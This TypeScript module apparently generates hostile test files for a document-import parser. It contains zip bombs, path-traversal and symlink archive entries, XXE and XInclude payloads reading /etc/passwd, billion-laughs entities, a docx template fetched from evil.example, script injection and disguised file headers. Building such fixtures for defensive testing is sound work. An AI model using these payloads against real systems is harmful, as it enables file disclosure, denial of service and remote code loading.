/** Files made to hurt whoever opens them: archives that burst, XML that reaches out or never ends, bytes that pretend. */
import { deflateRawSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { chanceFrom } from './random.ts'

type Entry = {
  readonly name: string
  readonly content: Uint8Array
  /** What the archive says of it, where that is not so. */
  readonly says?: {
    readonly size?: number
    readonly method?: number
    readonly flags?: number
    readonly mode?: number
  }
}

const MEGABYTE = 1024 * 1024

/** A zip written by hand, so that it may say what is not so. */
function rawZip(entries: readonly Entry[], { overlap = false, comment = '' } = {}): Uint8Array<ArrayBuffer> {
  const bodies: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, content, says = {} } of entries) {
    const packed = deflateRawSync(content, { level: 9 })
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(says.flags ?? 0x0800, 2)
    fields.writeUInt16LE(says.method ?? 8, 4)
    fields.writeUInt32LE(crc(content), 10)
    fields.writeUInt32LE(packed.length, 14)
    fields.writeUInt32LE(says.size ?? content.length, 18)
    fields.writeUInt16LE(Buffer.byteLength(name), 22)
    const body = Buffer.concat([signed(0x04034b50, fields), Buffer.from(name), packed])
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(((says.mode ?? 0) << 16) >>> 0, 6)
    rest.writeUInt32LE(overlap ? 0 : at, 10)
    const made = Buffer.from([20, 3])
    directory.push(
      Buffer.concat([signed(0x02014b50, Buffer.concat([made, fields, rest])), Buffer.from(name)]),
    )
    bodies.push(body)
    at += body.length
  }
  const all = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(all.length, 8)
  end.writeUInt32LE(at, 12)
  end.writeUInt16LE(comment.length, 16)
  return Uint8Array.from(
    Buffer.concat([...bodies, all, signed(0x06054b50, end), Buffer.from(comment, 'latin1')]),
  )
}

function signed(signature: number, rest: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt32LE(signature)
  return Buffer.concat([head, rest])
}

function crc(bytes: Uint8Array): number {
  let sum = 0xffffffff
  for (const byte of bytes) sum = (CRC_TABLE[(sum ^ byte) & 0xff] ?? 0) ^ (sum >>> 8)
  return (sum ^ 0xffffffff) >>> 0
}

const CRC_TABLE = Array.from({ length: 256 }, (_, start) => {
  let value = start
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  return value >>> 0
})

const text = (content: string) => strToU8(content)

/** A package in which one part is hostile and the others are as Office writes them. */
const packed = (parts: Readonly<Record<string, string>>): Uint8Array<ArrayBuffer> =>
  Uint8Array.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, text(xml)]))))

const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

const rels = (...lines: readonly string[]) =>
  `${HEAD}<Relationships xmlns="${RELATIONS}">${lines.join('')}</Relationships>`

const types = (kind: string, part: string) =>
  `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`

const SHEET = 'xl/worksheets/sheet1.xml'

const workbook = (rows: string, more: Readonly<Record<string, string>> = {}) =>
  packed({
    '[Content_Types].xml': types('spreadsheetml.sheet', 'xl/workbook.xml'),
    '_rels/.rels': rels(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/>`),
    'xl/_rels/workbook.xml.rels': rels(
      `<Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>`,
    ),
    'xl/workbook.xml': `${HEAD}<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
    [SHEET]: `${HEAD}<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`,
    ...more,
  })

const letter = (body: string, more: Readonly<Record<string, string>> = {}) =>
  packed({
    '[Content_Types].xml': types('wordprocessingml.document', 'word/document.xml'),
    '_rels/.rels': rels(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
    'word/document.xml': `${HEAD}<w:document xmlns:w="${WORD}" xmlns:r="${OFFICE}"><w:body>${body}</w:body></w:document>`,
    ...more,
  })

const ods = (rows: string) =>
  packed({
    mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
    'META-INF/manifest.xml': `${HEAD}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>`,
    'content.xml': `${HEAD}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="A">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
  })

const LAUGHS = `<!DOCTYPE a [<!ENTITY a "hahahahaha">${'bcdefghij'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghij'[index]};`.repeat(10)}">`)
  .join('')}]>`
const REACHING = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const WHOLE_SHEET = `<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`
const SHEET_END = '</t></is></c></row></sheetData></worksheet>'
const cell = (value: string, at = 'A1') => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`
const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
const noise = (length: number) => {
  const chance = chanceFrom(7)
  return Uint8Array.from({ length }, () => chance.upTo(256))
}
const zeros = (megabytes: number) => new Uint8Array(megabytes * MEGABYTE)
const utf16 = (content: string) => Uint8Array.from(Buffer.from(`\ufeff${content}`, 'utf16le'))
const joined = (...pieces: readonly (Uint8Array | readonly number[])[]) =>
  Buffer.concat(pieces.map(piece => Uint8Array.from(piece)))
const oleHead = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]

function nested(depth: number): Uint8Array<ArrayBuffer> {
  let inner = rawZip([{ name: 'a.csv', content: text('Đơn vị,Số lượng') }])
  for (let level = 0; level < depth; level++) inner = rawZip([{ name: `${level}.zip`, content: inner }])
  return inner
}

export type HostileFile = { readonly name: string; readonly make: () => Uint8Array<ArrayBuffer> }

const file = (name: string, make: () => Uint8Array): HostileFile => ({
  name,
  make: () => Uint8Array.from(make()),
})

const ARCHIVES: readonly HostileFile[] = [
  file('bung.zip', () => rawZip([{ name: 'a.csv', content: zeros(120) }])),
  file('noi-nho.xlsx', () => rawZip([{ name: SHEET, content: zeros(120), says: { size: 100 } }])),
  file('noi-lon.xlsx', () => rawZip([{ name: SHEET, content: text('a'), says: { size: 0xfffffff0 } }])),
  file('long-nhau.zip', () => nested(40)),
  file('nhieu.zip', () =>
    rawZip(Array.from({ length: 5_000 }, (_, index) => ({ name: `${index}.csv`, content: text('a') }))),
  ),
  file('chong.zip', () =>
    rawZip(
      Array.from({ length: 900 }, (_, index) => ({ name: `${index}.csv`, content: zeros(0.1) })),
      { overlap: true },
    ),
  ),
  file('cung-ten.zip', () =>
    rawZip([
      { name: 'a.csv', content: text('Đơn vị:,Xã An Phú\nSố lượng đại biểu:,12') },
      { name: 'a.csv', content: text('Đơn vị:,Xã Ba Tơ\nSố lượng đại biểu:,99') },
    ]),
  ),
  file('duong-dan.zip', () =>
    rawZip(
      [
        '../../../tmp/hostile.csv',
        '/etc/hostile.csv',
        'C:\\Windows\\hostile.csv',
        '__proto__',
        'a\0.csv',
        '',
      ].map(name => ({ name, content: text('Đơn vị,Số lượng') })),
    ),
  ),
  file('lien-ket.zip', () =>
    rawZip([{ name: 'a.csv', content: text('/etc/passwd'), says: { mode: 0o120777 } }]),
  ),
  file('khoa.zip', () => rawZip([{ name: 'a.csv', content: text('a'), says: { flags: 0x0801 } }])),
  file('cach-la.docx', () =>
    rawZip([{ name: 'word/document.xml', content: text('a'), says: { method: 14 } }]),
  ),
  file('hai-duoi.zip', () =>
    rawZip([{ name: 'a.csv', content: text('a') }], { comment: 'PK\u0005\u0006'.padEnd(60, '\0') }),
  ),
  file('cut.docx', () => letter(paragraph('Hội nghị')).subarray(0, 300)),
]

const XML: readonly HostileFile[] = [
  file('cuoi.xlsx', () => workbook('', { [SHEET]: `${LAUGHS}${WHOLE_SHEET}&j;${SHEET_END}` })),
  file('voi.xlsx', () => workbook('', { [SHEET]: `${REACHING}${WHOLE_SHEET}&x;${SHEET_END}` })),
  file('voi-chuoi.xlsx', () =>
    workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', {
      'xl/sharedStrings.xml': `${REACHING}<sst xmlns="${MAIN}"><si><t>&x;</t></si></sst>`,
    }),
  ),
  file('voi-utf16.xlsx', () =>
    Uint8Array.from(zipSync({ [SHEET]: utf16(`${REACHING}${WHOLE_SHEET}&x;${SHEET_END}`) })),
  ),
  file('voi.docx', () =>
    letter('', {
      'word/document.xml': `${REACHING}<w:document><w:body>${paragraph('&x;')}</w:body></w:document>`,
    }),
  ),
  file('cuoi.docx', () =>
    letter('', {
      'word/document.xml': `${LAUGHS}<w:document><w:body>${paragraph('&j;')}</w:body></w:document>`,
    }),
  ),
  file('voi.xml', () =>
    text(
      `<?xml version="1.0"?>${REACHING}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&x;</Data></Cell></Row></Table></Worksheet></Workbook>`,
    ),
  ),
  file('gop.docx', () =>
    letter('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  ),
  file('mau-ngoai.docx', () =>
    letter(paragraph('Hội nghị'), {
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="r9" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>`,
      ),
    }),
  ),
  file('sau.docx', () => letter(`${'<w:p>'.repeat(200_000)}${'</w:p>'.repeat(200_000)}`)),
  file('sau-hop.docx', () => letter('<w:p><w:hyperlink r:id="x">'.repeat(100_000))),
  file('truong.docx', () => letter(`<w:p>${'<w:fldChar w:fldCharType="begin"/>'.repeat(200_000)}</w:p>`)),
  file('dong.docx', () => letter(paragraph('I. a').repeat(300_000))),
  file('dai.docx', () => letter(paragraph('đồng chí, '.repeat(2_000_000)))),
  file('mo.docx', () => letter(`<w:p ${'<'.repeat(2_000_000)}`)),
  file('thuoc-tinh.docx', () => letter(`<w:p ${'a="b" '.repeat(1_000_000)}/>`)),
  file('sau.xlsx', () => workbook(`${'<row>'.repeat(200_000)}`)),
  file('xa.xlsx', () =>
    workbook(`<row r="1">${cell('a')}</row><row r="1048576">${cell('b', 'XFD1048576')}</row>`),
  ),
  file('chi-so.xlsx', () =>
    workbook('<row r="-5"><c r="A0" t="s"><v>99999999</v></c><c r="ZZZZZ9" t="s"><v>-1</v></c></row>'),
  ),
  file('gop-o.xlsx', () =>
    workbook('', {
      [SHEET]: `<worksheet xmlns="${MAIN}"><sheetData><row r="1">${cell('a')}</row></sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(50_000)}</mergeCells></worksheet>`,
    }),
  ),
  file('lap.ods', () =>
    ods(
      '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row>',
    ),
  ),
  file('sau.ods', () => ods('<table:table-row><table:table-cell>'.repeat(100_000))),
]

const TEXTS: readonly HostileFile[] = [
  file('mot-dong.csv', () => text('a'.repeat(20 * MEGABYTE))),
  file('phay.csv', () => text(','.repeat(5 * MEGABYTE))),
  file('nhay.csv', () => text(`"${'a""'.repeat(3 * MEGABYTE)}`)),
  file('xuong-dong.csv', () => text('\r\n'.repeat(5 * MEGABYTE))),
  file('dong-trong.txt', () => text('\n'.repeat(450_000))),
  file('khoang-trang.txt', () => text(' '.repeat(5 * MEGABYTE))),
  file('so-muc.txt', () => text(`${'I. 1. a) - '.repeat(40_000)}\n`)),
  file('gio.txt', () => text(`Thời gian: ${'14 giờ 00 phút ngày 01/7/2026, '.repeat(15_000)}`)),
  file('ngoac.txt', () => text(`${'('.repeat(200_000)}trừ${')'.repeat(200_000)}`)),
  file('bang.html', () => text('<table><tr><td>'.repeat(100_000))),
  file('rong.html', () =>
    text('<table><tr><td colspan="1000000000" rowspan="1000000000">Đơn vị</td></tr></table>'),
  ),
  file('chay.xls', () =>
    text('<html><script>globalThis.polluted=1</script><table><tr><td onclick="x()">Đơn vị</td></tr></table>'),
  ),
]

const PRETENDING: readonly HostileFile[] = [
  file('trong.xlsx', () => new Uint8Array()),
  file('mot.docx', () => Uint8Array.of(0x50)),
  file('pk.docx', () => text('PK\u0003\u0004')),
  file('nhieu-loan.xlsx', () => noise(200_000)),
  file('nhieu-loan.docx', () => joined(text('PK\u0003\u0004'), noise(50_000))),
  file('nhieu-loan.xls', () => joined(oleHead, noise(60_000))),
  file('vong.xls', () => joined(oleHead, new Uint8Array(512 * 20).fill(1))),
  file('chay.xlsx', () => joined(text('MZ'), zeros(1))),
  file('du-lieu.xlsx', () => joined(text('SQLite format 3\0'), zeros(0.1))),
  file('anh.xlsx', () => joined([0x89], text('PNG\r\n\u001a\n'), workbook(`<row>${cell('a')}</row>`))),
]

export const HOSTILE_FILES: readonly HostileFile[] = [...ARCHIVES, ...XML, ...TEXTS, ...PRETENDING]
